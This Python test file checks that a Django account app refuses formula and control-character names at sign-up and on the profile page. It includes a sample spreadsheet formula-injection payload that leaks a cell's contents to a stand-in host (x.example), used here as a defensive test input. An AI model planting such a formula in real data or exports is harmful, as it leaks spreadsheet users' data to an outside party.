"""Issue 15, finding 2: one name rule at sign-up and on the profile page, as
in the import; a formula or a control character is refused with a message and
nothing is stored."""

import re

import pytest
from hocvuso.accounts.models import User

pytestmark = pytest.mark.django_db

SIGNUP = "/tai-khoan/signup/"
PROFILE = "/tai-khoan/ho-so/"
FORMULA = '=HYPERLINK("http://x.example/?leak="&B8,"Bấm vào đây")'
RULE = "Họ và tên chỉ gồm chữ cái"


def _text(response) -> str:
    return re.sub(r"\s+", " ", response.content.decode())


@pytest.mark.parametrize(
    ("name", "message"),
    [
        (FORMULA, RULE),
        ("@SUM(A1)", RULE),
        ("Nguyễn Văn 2", RULE),
        ("Nguyễn\x1bVăn", "ký tự điều khiển"),
        ("Nguyễn\x00Văn", "ký tự điều khiển"),
    ],
)
def test_profile_refuses_a_name_the_rule_refuses(client, learner, name, message):
    client.force_login(learner)
    before = learner.full_name
    response = client.post(PROFILE, {"full_name": name})
    assert response.status_code == 200
    assert message in _text(response)
    learner.refresh_from_db()
    assert learner.full_name == before


def test_profile_stores_the_name_folded_and_composed(client, learner):
    client.force_login(learner)
    client.post(PROFILE, {"full_name": "  H'Hen   Nie\u0302 "})
    learner.refresh_from_db()
    assert learner.full_name == "H'Hen Niê"


@pytest.mark.parametrize(
    ("name", "message"), [(FORMULA, RULE), ("Lê\x07Văn Tám", "ký tự điều khiển")]
)
def test_signup_refuses_a_name_the_rule_refuses(client, privacy_notice, name, message):
    response = client.post(SIGNUP, {"full_name": name, "phone": "0912345678"})
    assert response.status_code == 200
    assert message in _text(response)
    assert not User.objects.filter(phone="+84912345678").exists()
